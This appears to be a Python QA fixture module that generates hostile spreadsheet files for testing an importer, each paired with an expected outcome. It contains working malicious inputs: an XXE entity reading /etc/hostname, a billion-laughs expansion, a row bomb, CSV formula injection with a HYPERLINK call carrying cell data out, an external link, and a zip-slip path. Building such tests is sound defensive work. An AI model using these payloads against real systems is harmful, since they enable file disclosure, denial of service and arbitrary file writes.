# ruff: noqa: E501
"""Hostile sheets, each with what must happen to it. From shared/qa/hostile_files.py; the pictures are in tests/archive/media.

Outcomes: "refuse" = SheetError and nothing else; "inert" = read as text, nothing run, fetched or written; "keep" = an
ordinary file that must work.
"""

import io
import zipfile

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def xlsx(sheet: str, rels: str = "", extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{_SHEET}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_SHEET}.worksheet+xml"/></Types>',
        )
        packed.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        packed.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {_MAIN} xmlns:r="{_OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        packed.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>{rels}</Relationships>',
        )
        packed.writestr("xl/worksheets/sheet1.xml", sheet.replace("<worksheet>", f"<worksheet {_MAIN}>"))
        for name, data in (extra or {}).items():
            packed.writestr(name, data)
    return out.getvalue()


def inline(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def cells(*texts: str) -> str:
    return (
        f'<?xml version="1.0"?><worksheet><sheetData><row>{"".join(map(inline, texts))}</row></sheetData></worksheet>'
    )


def build() -> dict[str, tuple[bytes, str]]:
    """Return {file name: (bytes, outcome)}."""
    files = {}

    def add(name: str, data: bytes, outcome: str) -> None:
        files[name] = (data, outcome)

    entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    laugh = "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    many = '<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaa</t></is></c></row>' * 3_000_000
    link = f'<Relationship Id="r9" Type="{_OFFICE}/externalLink" TargetMode="External" Target="http://127.0.0.1:9/x"/>'
    add(
        "formula.csv",
        b'name,note\n"=HYPERLINK(""http://127.0.0.1:9/?""&A1,""x"")",+1\n@SUM(1),-2+3\n"\t=1+1","\r=2"\n',
        "inert",
    )
    add("nul.csv", b"name\nKato\0Jiro\n", "refuse")
    add("latin1.csv", "name\nSat\xf4\n".encode("latin-1"), "keep")
    add("sjis.csv", "氏名\n齋藤 勇\n".encode("cp932"), "keep")
    add("bom16.csv", "氏名\n齋藤 勇\n".encode("utf-16"), "keep")
    add("wide.csv", (",".join(f"c{n}" for n in range(20000)) + "\n" + "x," * 19999 + "x\n").encode(), "refuse")
    add("long-cell.csv", ("name\n" + "A" * 5_000_000 + "\n").encode(), "refuse")
    head = '<?xml version="1.0"?>'
    add(
        "entity.xlsx",
        xlsx(f"{head}{entity}<worksheet><sheetData><row>{inline('&x;')}</row></sheetData></worksheet>"),
        "refuse",
    )
    add(
        "laugh.xlsx",
        xlsx(
            f'{head}<!DOCTYPE w [<!ENTITY a "ha">{laugh}]><worksheet><sheetData><row>{inline("&i;")}</row></sheetData></worksheet>'
        ),
        "refuse",
    )
    add("bomb.xlsx", xlsx(f"{head}<worksheet><sheetData>{many}</sheetData></worksheet>"), "refuse")
    add("link.xlsx", xlsx(cells("name", "Kato"), link), "inert")
    add("slip.xlsx", xlsx(cells("name", "Kato"), extra={"../../../../tmp/slip-819": "x"}), "inert")
    far = '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    add("far-corner.xlsx", xlsx(head + far), "refuse")
    return files
